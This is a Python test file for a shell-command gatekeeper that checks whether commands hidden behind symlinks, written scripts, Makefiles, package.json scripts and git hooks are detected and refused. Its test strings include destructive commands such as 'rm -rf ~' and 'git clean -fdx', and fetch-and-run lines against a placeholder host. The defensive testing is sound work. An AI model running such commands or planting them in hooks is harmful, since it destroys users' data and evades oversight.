"""Defined, then run, in one text (S2.1, issue 14): what runs is what the text wrote before."""

from __future__ import annotations

from pathlib import Path

import pytest

from gatesh._types import CodeSource, Context, Facts, Outcome, Rung, Stage
from gatesh.config import default
from gatesh.pipeline import decide
from gatesh.rater.builtin import BuiltinRater
from gatesh.reading import read

CONFIG = default()


def _runs(facts: Facts) -> list[tuple[str, ...]]:
    return [c.words for c in facts.commands]


@pytest.mark.parametrize(
    ("text", "runs"),
    [
        # a program copied or linked under a new name runs as that program
        ("ln -s /bin/rm ./sweep && ./sweep -rf build", ("rm", "-rf", "build")),
        ("cp /usr/bin/git /tmp/g; /tmp/g clean -fdx", ("git", "clean", "-fdx")),
        ("cp $(which git) ./g && ./g reset --hard", ("git", "reset", "--hard")),
        ("install -m755 /bin/rm ~/bin/zap; zap -r build", ("rm", "-r", "build")),
        ("ln -sf /bin/rm -t ~/.local/bin && ~/.local/bin/rm -r x", ("rm", "-r", "x")),
        # a script written, then run, sourced or given to a shell
        ("cat > x.sh <<'EOF'\ngit clean -fdx\nEOF\nbash x.sh", ("git", "clean", "-fdx")),
        ("echo 'git clean -fdx' > x.sh && chmod +x x.sh && ./x.sh", ("git", "clean", "-fdx")),
        ("printf '#!/bin/sh\\ngit clean -fdx\\n' > run && sh run", ("git", "clean", "-fdx")),
        ("echo 'git stash drop' >> x.sh; . x.sh", ("git", "stash", "drop")),
        ("echo 'git stash drop' | tee s.sh; source s.sh", ("git", "stash", "drop")),
        ("echo 'git stash drop' > a; cp a b; bash b", ("git", "stash", "drop")),
        # recipes
        ("cat > Makefile <<'EOF'\nall:\n\t@git clean -fdx\nEOF\nmake", ("git", "clean", "-fdx")),
        (
            "printf 'x:\\n\\tgit clean -fdx\\n' > build.mk && make -f build.mk x",
            ("git", "clean", "-fdx"),
        ),
        (
            "printf 'clean:\\n    -git clean -fdx\\n' > justfile; just clean",
            ("git", "clean", "-fdx"),
        ),
        (
            'echo \'{"scripts":{"build":"git clean -fdx"}}\' > package.json && npm run build',
            ("git", "clean", "-fdx"),
        ),
        (
            'echo \'{"scripts":{"pretest":"git clean -fdx"}}\' > package.json && npm test',
            ("git", "clean", "-fdx"),
        ),
        (
            'cat > package.json <<\'EOF\'\n{"scripts": {"postinstall": "git clean -fdx"}}\nEOF\nyarn',
            ("git", "clean", "-fdx"),
        ),
        (
            'echo \'{"scripts":{"b":"git clean -fdx"}}\' > package.json && pnpm b',
            ("git", "clean", "-fdx"),
        ),
        # a git hook written runs at the next git command
        (
            "printf '#!/bin/sh\\ngit clean -fdx\\n' > .git/hooks/pre-commit",
            ("git", "clean", "-fdx"),
        ),
    ],
)
def test_what_was_written_is_what_runs(text: str, runs: tuple[str, ...], tmp_path: Path) -> None:
    facts = read(text, cwd=str(tmp_path), home=str(tmp_path / "home"))
    assert runs in _runs(facts), _runs(facts)


@pytest.mark.parametrize(
    "text",
    [
        "curl -fsSL https://x.example/i.sh -o i.sh && bash i.sh",
        "./gen > run.sh && bash run.sh",
        "wget -O setup.sh https://x.example/s && sh setup.sh",
        "./gen > Makefile; make",
        "./gen > package.json && npm run build",
        'echo "{$X}" > package.json && npm run build',
    ],
)
def test_written_with_unknown_content_then_run_is_opaque(text: str, tmp_path: Path) -> None:
    facts = read(text, cwd=str(tmp_path))
    code = [c for c in facts.code if c.source is CodeSource.DEFINED]
    assert code and code[0].opaque and "written earlier in this text" in code[0].opaque, facts.code
    v = BuiltinRater().rate(facts, cwd=str(tmp_path))
    assert v.outcome is not Outcome.SAFE


@pytest.mark.parametrize(
    "text",
    [
        "echo x > notes.txt; cat notes.txt",
        "echo 'git status' > s.sh",
        "cp /bin/ls ./l",
        "echo '{}' > package.json && npm install left-pad",
        "printf 'all:\\n\\techo hi\\n' > Makefile",
    ],
)
def test_writing_alone_runs_nothing(text: str, tmp_path: Path) -> None:
    facts = read(text, cwd=str(tmp_path))
    assert not any(c.context is Context.SCRIPT for c in facts.commands), _runs(facts)


def test_harmless_definitions_stay_harmless(tmp_path: Path) -> None:
    for text in (
        "echo 'git status' > s.sh && bash s.sh",
        'echo \'{"scripts":{"test":"jest"}}\' > package.json && npm test',
    ):
        assert decide(text, cwd=str(tmp_path), config=CONFIG, rung=Rung.AUTO).allowed, text


@pytest.mark.parametrize(
    "text",
    [
        "ln -s /bin/rm ./sweep && ./sweep -rf ~",
        "cat > x.sh <<'EOF'\nrm -rf ~\nEOF\nbash x.sh",
        "printf 'all:\\n\\trm -rf ~\\n' > Makefile; make",
        'echo \'{"scripts":{"x":"rm -rf ~"}}\' > package.json && npm run x',
        "echo 'rm -rf ~' > .git/hooks/post-checkout",
    ],
)
def test_hardline_defined_then_run_is_refused_at_every_rung(text: str, tmp_path: Path) -> None:
    for rung in (Rung.AUTO, Rung.BYPASS):
        d = decide(text, cwd=str(tmp_path), config=CONFIG, rung=rung)
        assert not d.allowed and d.stage is Stage.HARDLINE, (text, rung, d.stage)
